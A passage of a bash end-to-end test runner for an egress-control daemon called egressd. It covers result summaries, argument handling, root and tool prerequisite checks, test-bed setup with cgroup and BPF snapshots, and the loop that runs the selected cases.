	echo "e2e: $PASS passed, $FAILED failed, $SKIPPED skipped"
	[ $FAILED -eq 0 ] || exit 1
	[ "${CI:-}" = true ] && [ $SKIPPED -gt 0 ] && exit 1
	exit 0
}

skip_all() {
	local n
	for n in "${CASES[@]}"; do
		selected "$n" && report skip "$n" "$1"
	done
	summary
}

FILTER=()
for a in "$@"; do
	case $a in
	-l) printf '%s\n' "${CASES[@]}"; exit 0 ;;
	-h | --help) sed -n '3,18p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;;
	*) FILTER+=("$a") ;;
	esac
done

[ "$(id -u)" -eq 0 ] || skip_all "needs root (network namespaces, cgroups, BPF)"
if [ "$E2E_RUNNER" != direct ] && [ ! -x "$EGRESSD" ]; then
	skip_all "$EGRESSD not built (make)"
fi
for tool in ip dnsmasq openssl curl dig unshare setpriv bpftool; do
	command -v $tool >/dev/null || skip_all "$tool not installed (make deps)"
done

trap 'bed_teardown' EXIT
trap 'exit 130' INT
trap 'exit 143' TERM
# Agents and egressd inherit this; 2,000 proxied connections need fds.
ulimit -n 65536 2>/dev/null || ulimit -n "$(ulimit -Hn)"

if ! bed_setup; then
	for n in "${CASES[@]}"; do
		selected "$n" && report fail "$n" "test bed setup failed"
	done
	summary
fi
# What existed before (another egressd on this machine): not ours to flag.
E2E_SNAP=$E2E_DIR/snap
mkdir -p "$E2E_SNAP"
cg_list_egressd >"$E2E_SNAP/cgroups"
bpf_list_egr >"$E2E_SNAP/progs"
CLIENT=("$E2E_PY" "$E2E_DIR/bin/client.py")
bed_log "bed $E2E_ID ready in $E2E_DIR (runner: $E2E_RUNNER)"

for n in "${CASES[@]}"; do
	selected "$n" || continue
	cp "$E2E_DIR/pids" "$E2E_SNAP/pids"
	run_case "$n"
done
summary
